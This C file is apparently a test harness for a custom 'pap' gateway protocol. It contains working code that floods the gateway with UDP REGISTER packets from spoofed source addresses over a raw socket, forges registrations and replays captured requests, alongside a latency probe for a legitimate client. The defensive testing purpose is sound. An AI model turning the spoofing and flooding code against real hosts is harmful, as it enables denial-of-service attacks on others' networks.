/* SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause */
/*
 * The attacker's and the victim's side of tests/integration/test_attacks.sh:
 *
 *   pap_flood GW PORT flood SRC COUNT RATE SECONDS
 *       REGISTERs from COUNT spoofed sources SRC, SRC+1, ... (raw socket) at
 *       RATE per second for SECONDS; prints SENT=n
 *   pap_flood GW PORT forge SRC LEASE
 *       one REGISTER spoofed from SRC asking for LEASE seconds (the ghost of
 *       finding 2); prints SENT=1
 *   pap_flood GW PORT relay FILE
 *       FILE: a REGISTER captured from another host. Sent from here as it is,
 *       then again with the COOKIE this address is given in place of the
 *       captured one; prints FIRST=<reply> and SECOND=<reply>, each as
 *       "type:code:length" ("register-reply:0:LEN" when it registered), and
 *       USABLE=0 when a request as that client, sealed with any secret we can
 *       derive, is refused
 *   pap_flood GW PORT latency N
 *       a legitimate client: REGISTER (with its cookie), then N EXTENDs one
 *       after the other; prints LOST=n (requests that needed a retransmission)
 *       P50_MS= P99_MS= MAX_MS= FAILED=n
 */
#include <errno.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sys/socket.h>
#include <openssl/rand.h>
#include "pap/pap_client.h"

static int64_t now_us(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (int64_t)ts.tv_sec * 1000000 + ts.tv_nsec / 1000;
}

static int build_register(uint8_t *buf, size_t cap, uint32_t lease)
{
	uint8_t pub[PAP_KEY_LEN];
	struct pap_writer w;
	uint32_t xid;

	RAND_bytes(pub, sizeof(pub));
	RAND_bytes((uint8_t *)&xid, sizeof(xid));
	pap_begin(&w, buf, cap, PAP_REGISTER, xid, 0, 0);
	pap_put(&w, PAP_P_PUBKEY, pub, sizeof(pub));
	if (lease)
		pap_put_u32(&w, PAP_P_LEASE, lease);
	return pap_finish(&w, NULL, 0);
}

/* One spoofed UDP datagram: src:4555 -> gw:port (the kernel fills the IP
 * checksum and id; the UDP checksum 0 is "none" in IPv4). */
static int send_spoofed(int fd, uint32_t src, uint32_t gw, uint16_t port,
			const uint8_t *payload, size_t len)
{
	uint8_t pkt[sizeof(struct iphdr) + sizeof(struct udphdr) + PAP_MAX_MSG];
	struct iphdr *ip = (struct iphdr *)pkt;
	struct udphdr *udp = (struct udphdr *)(ip + 1);
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr.s_addr = gw };
	size_t total = sizeof(*ip) + sizeof(*udp) + len;

	memset(pkt, 0, sizeof(*ip) + sizeof(*udp));
	ip->version = 4;
	ip->ihl = 5;
	ip->ttl = 64;
	ip->protocol = IPPROTO_UDP;
	ip->tot_len = htons((uint16_t)total);
	ip->saddr = src;
	ip->daddr = gw;
	udp->source = htons(40000 + (ntohl(src) & 0xfff));
	udp->dest = htons(port);
	udp->len = htons((uint16_t)(sizeof(*udp) + len));
	memcpy(udp + 1, payload, len);
	return sendto(fd, pkt, total, 0, (struct sockaddr *)&to, sizeof(to)) < 0 ? -errno : 0;
}

static int raw_socket(void)
{
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW), one = 1;

	if (fd < 0 || setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one))) {
		perror("raw socket");
		exit(2);
	}
	return fd;
}

static int flood(uint32_t gw, uint16_t port, uint32_t src, uint32_t count, uint32_t rate,
		 uint32_t secs)
{
	uint8_t req[256];
	int fd = raw_socket();
	int64_t t0 = now_us(), end = t0 + (int64_t)secs * 1000000;
	uint64_t sent = 0;

	while (now_us() < end) {
		/* rate per second, in steps of 1 ms */
		uint64_t due = (uint64_t)(now_us() - t0) * rate / 1000000;

		while (sent < due) {
			int len = build_register(req, sizeof(req), 1);
			uint32_t s = htonl(ntohl(src) + (uint32_t)(sent % count));

			if (len > 0 && !send_spoofed(fd, s, gw, port, req, (size_t)len))
				sent++;
			else
				break;
		}
		usleep(1000);
	}
	close(fd);
	printf("SENT=%llu\n", (unsigned long long)sent);
	return 0;
}

static int forge(uint32_t gw, uint16_t port, uint32_t src, uint32_t lease)
{
	uint8_t req[256];
	int fd = raw_socket(), len = build_register(req, sizeof(req), lease);
	int rc = len > 0 ? send_spoofed(fd, src, gw, port, req, (size_t)len) : -EIO;

	close(fd);
	printf("SENT=%d\n", !rc);
	return rc ? 1 : 0;
}

/* Send, wait up to a second for the answer; "type:code:length" into out. */
static void ask(int fd, const uint8_t *req, size_t len, char *out, size_t outlen,
		uint8_t *rep, size_t *rep_len, struct pap_msg *m)
{
	struct pollfd p = { .fd = fd, .events = POLLIN };
	ssize_t n;

	*rep_len = 0;
	snprintf(out, outlen, "none:0:0");
	if (send(fd, req, len, 0) < 0 || poll(&p, 1, 1000) != 1)
		return;
	n = recv(fd, rep, PAP_MAX_MSG, 0);
	if (n <= 0 || pap_decode(rep, (size_t)n, m))
		return;
	*rep_len = (size_t)n;
	snprintf(out, outlen, "%s:%u:%zd", pap_type_name(m->type),
		 m->type == PAP_ERROR ? m->error_code : 0, n);
}

static int relay(uint32_t gw, uint16_t port, const char *file)
{
	static uint8_t req[PAP_MAX_MSG], rep[PAP_MAX_MSG], again[PAP_MAX_MSG];
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(port),
				  .sin_addr.s_addr = gw };
	char first[64], second[64];
	struct pap_msg m, cap;
	struct pap_writer w;
	size_t rep_len, len;
	int fd, n, usable = 0;
	FILE *f = fopen(file, "rb");

	if (!f)
		return perror(file), 2;
	len = fread(req, 1, sizeof(req), f);
	fclose(f);
	if (pap_decode(req, len, &cap) || cap.type != PAP_REGISTER)
		return fprintf(stderr, "%s: not a REGISTER\n", file), 2;
	fd = socket(AF_INET, SOCK_DGRAM, 0);
	if (fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof(to)))
		return perror("socket"), 2;

	ask(fd, req, len, first, sizeof(first), rep, &rep_len, &m);
	printf("FIRST=%s\n", first);
	if (!rep_len || m.type != PAP_ERROR || m.error_code != PAP_E_COOKIE) {
		printf("SECOND=none:0:0\nUSABLE=0\n");
		return 0;
	}
	/* The victim's REGISTER, its key and lease, with our cookie instead;
	 * its AUTH (if any) cannot be redone without the site key. */
	pap_begin(&w, again, sizeof(again), PAP_REGISTER, cap.xid, 0, 0);
	pap_put(&w, PAP_P_PUBKEY, cap.pubkey, PAP_KEY_LEN);
	if (cap.present & PAP_BIT(PAP_P_LEASE))
		pap_put_u32(&w, PAP_P_LEASE, cap.lease);
	pap_put(&w, PAP_P_COOKIE, m.cookie, PAP_COOKIE_LEN);
	n = pap_finish(&w, NULL, 0);
	ask(fd, again, (size_t)n, second, sizeof(second), rep, &rep_len, &m);
	printf("SECOND=%s\n", second);
	if (rep_len && m.type == PAP_REGISTER_REPLY) {
		/* We lack the victim's private key: the best we can do is a
		 * secret of our own guess; the gateway must refuse it. */
		struct pap_session s = { .client_id = m.client_id, .xid = 77, .seq = 0 };
		uint8_t q[PAP_MAX_MSG];
		char third[64];

		memset(s.secret, 0x42, sizeof(s.secret));
		pap_session_begin(&s, &w, q, sizeof(q), PAP_QUERY);
		n = pap_session_seal(&s, &w);
		ask(fd, q, (size_t)n, third, sizeof(third), rep, &rep_len, &m);
		printf("THIRD=%s\n", third);
		usable = rep_len && m.type == PAP_QUERY_REPLY;
	}
	printf("USABLE=%d\n", usable);
	close(fd);
	return 0;
}

static int cmp_i64(const void *a, const void *b)
{
	int64_t x = *(const int64_t *)a, y = *(const int64_t *)b;

	return x < y ? -1 : x > y;
}

static int latency(const char *gw, uint16_t port, unsigned int n)
{
	static struct pap_client c;
	int64_t *lat = calloc(n ? n : 1, sizeof(*lat));
	unsigned int lost = 0, failed = 0, ok = 0;
	int rc;

	if (!lat || pap_client_open(&c, gw, port))
		return 2;
	c.timeout_ms = 200;
	c.retries = 5;
	rc = pap_client_register(&c, NULL, 0, 600);
	if (rc) {
		printf("REGISTER_FAILED=%s\n", pap_client_strerror(&c, rc));
		return 1;
	}
	for (unsigned int i = 0; i < n; i++) {
		int64_t t = now_us();
		uint32_t granted;

		rc = pap_client_extend(&c, 600, &granted);
		t = now_us() - t;
		if (rc) {
			failed++;
			continue;
		}
		lost += t >= c.timeout_ms * 1000;	/* answered after a retransmission */
		lat[ok++] = t;
		usleep(20000);
	}
	qsort(lat, ok, sizeof(*lat), cmp_i64);
	printf("LOST=%u FAILED=%u P50_MS=%.1f P99_MS=%.1f MAX_MS=%.1f\n", lost, failed,
	       ok ? lat[ok / 2] / 1000.0 : 0, ok ? lat[(ok * 99) / 100] / 1000.0 : 0,
	       ok ? lat[ok - 1] / 1000.0 : 0);
	pap_client_deregister(&c);
	pap_client_close(&c);
	free(lat);
	return 0;
}

int main(int argc, char **argv)
{
	uint32_t gw, a;
	uint16_t port;

	if (argc < 4 || inet_pton(AF_INET, argv[1], &gw) != 1) {
		fprintf(stderr, "usage: pap_flood GW PORT flood|forge|relay|latency ...\n");
		return 2;
	}
	port = (uint16_t)atoi(argv[2]);
	if (!strcmp(argv[3], "flood") && argc == 8 && inet_pton(AF_INET, argv[4], &a) == 1)
		return flood(gw, port, a, (uint32_t)atoi(argv[5]), (uint32_t)atoi(argv[6]),
			     (uint32_t)atoi(argv[7]));
	if (!strcmp(argv[3], "forge") && argc == 6 && inet_pton(AF_INET, argv[4], &a) == 1)
		return forge(gw, port, a, (uint32_t)atoi(argv[5]));
	if (!strcmp(argv[3], "relay") && argc == 5)
		return relay(gw, port, argv[4]);
	if (!strcmp(argv[3], "latency") && argc == 5)
		return latency(argv[1], port, (unsigned int)atoi(argv[4]));
	fprintf(stderr, "pap_flood: bad arguments\n");
	return 2;
}
